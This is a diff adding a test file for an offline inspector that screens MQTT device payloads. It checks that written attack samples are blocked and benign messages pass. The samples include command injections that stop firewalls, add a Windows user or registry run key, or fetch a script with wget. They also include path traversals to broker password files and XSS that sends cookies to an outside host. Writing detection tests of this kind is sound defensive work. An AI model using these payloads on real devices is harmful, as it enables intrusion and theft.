@@ -1,0 +1,90 @@
+import assert from 'node:assert/strict';
+import { randomBytes } from 'node:crypto';
+import { describe, it } from 'node:test';
+import { OfflineInspector } from '../offline.js';
+import { DEFAULT_POLICY } from '../policy/policy.js';
+
+/**
+ * Attack families the rules cover, one written example each (not taken from the held-out set, which
+ * is only reported on), and benign text of the kind that tripped earlier versions. Each runs through
+ * the whole chain with the default policy, as a device's PUBLISH would.
+ */
+const attacks: ReadonlyArray<[string, string, string]> = [
+  [
+    'command-injection',
+    'service control after a separator',
+    '{"ntp":"pool.ntp.org; systemctl stop firewalld"}',
+  ],
+  ['command-injection', 'an init script', '{"host":"10.0.0.1;/etc/init.d/dropbear restart"}'],
+  ['command-injection', 'OpenRC', '{"dns":"1.1.1.1 | rc-service sshd stop"}'],
+  ['command-injection', 'flushing the firewall', '{"gw":"10.0.0.1; nft flush ruleset"}'],
+  ['command-injection', 'runlevel change', '{"target":"10.0.0.9 && init 0"}'],
+  ['command-injection', 'Windows account creation', '{"printer":"lab & net user eve S3cret! /add"}'],
+  ['command-injection', 'registry persistence', '{"p":"x & reg add HKCU\\\\Run /v a /d c:\\\\a.exe"}'],
+  ['command-injection', 'exec from code', '{"expr":"__import__(\'os\').system(\'id\')"}'],
+  // A Spring expression as a device would send it: the dollar sign is part of the payload.
+  ['command-injection', 'exec from Java', `{"tpl":"\${T(java.lang.Runtime).getRuntime().exec('id')}"}`],
+  ['command-injection', 'a whole command line', '{"cmd":"wget http://198.51.100.7/x.sh -O /tmp/x.sh"}'],
+  ['command-injection', 'argument injection', '{"file":"--output=/etc/cron.d/job http://198.51.100.7/j"}'],
+  [
+    'command-injection',
+    'base64-wrapped script',
+    `{"script_b64":"${Buffer.from('; systemctl disable --now ufw').toString('base64')}"}`,
+  ],
+  ['path-traversal', 'one step to a broker password file', '{"f":"../mosquitto/passwd"}'],
+  ['path-traversal', 'one step to a database', '{"f":"..\\\\data\\\\devices.sqlite"}'],
+  ['path-traversal', './ padding', '{"f":".././.././.././etc/hosts"}'],
+  ['path-traversal', 'IIS division slash', '{"f":"..%u2215..%u2215..%u2215windows/win.ini"}'],
+  ['path-traversal', 'MQTT broker configuration', '{"f":"/etc/mosquitto/mosquitto.conf"}'],
+  ['xss', 'breaking out of a JS string', '{"m":"\'-fetch(\'//198.51.100.7/?\'+document.cookie)-\'"}'],
+  ['xss', 'redirecting the page', '{"m":"window.location=\'//198.51.100.7/\'"}'],
+  ['xss', 'CSS behavior', '{"m":"<b style=\\"behavior:url(//198.51.100.7/x.htc)\\">"}'],
+  ['xss', 'SVG data URI, + decoded to a space', '{"u":"data:image/svg+xml;base64,PHN2Zz4="}'],
+];
+
+const benign: readonly string[] = [
+  '{"note":"Echo chamber alert: same topic again.\\nPing me when the install is done."}',
+  '{"text":"To build:\\n\\nnpm install\\nnpm run build\\n"}',
+  '{"status":"Null reading from probe 2; sleep 30 s before retry"}',
+  '{"review":"LGTM, but please don\'t use SELECT * here - list the columns."}',
+  '{"log":"loaded ../config/app.json"}',
+  '{"msg":"uses a regular expression (regex) to parse"}',
+  '{"cfg":"c2Vuc29yLWNvbmZpZy12Mg=="}',
+  '{"image":"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk"}',
+];
+
+describe('attack families, through the whole chain with the default policy', () => {
+  const inspector = new OfflineInspector({ policy: DEFAULT_POLICY });
+  for (const [index, [cls, family, payload]] of attacks.entries()) {
+    it(`${cls}: ${family}`, () => {
+      const result = inspector.inspect({
+        id: String(index),
+        clientId: `atk-${index}`,
+        topic: `devices/atk-${index}/data`,
+        payload: Buffer.from(payload),
+      });
+      assert.notEqual(result.decision, 'allow', JSON.stringify(result.findings));
+      assert.ok(result.classes.includes(cls as never), `${cls} among ${result.classes.join(', ')}`);
+    });
+  }
+  for (const [index, payload] of benign.entries()) {
+    it(`benign: ${payload.slice(0, 60)}`, () => {
+      const result = inspector.inspect({
+        id: String(index),
+        clientId: `ok-${index}`,
+        topic: `devices/ok-${index}/data`,
+        payload: Buffer.from(payload),
+      });
+      assert.equal(result.decision, 'allow', JSON.stringify(result.findings));
+    });
+  }
+  it('base64 of binary is not unwrapped (left to size and entropy)', () => {
+    const result = inspector.inspect({
+      id: 'bin',
+      clientId: 'ok-bin',
+      topic: 'devices/ok-bin/data',
+      payload: Buffer.from(JSON.stringify({ blob: randomBytes(48).toString('base64') })),
+    });
+    assert.equal(result.decision, 'allow');
+  });
+});
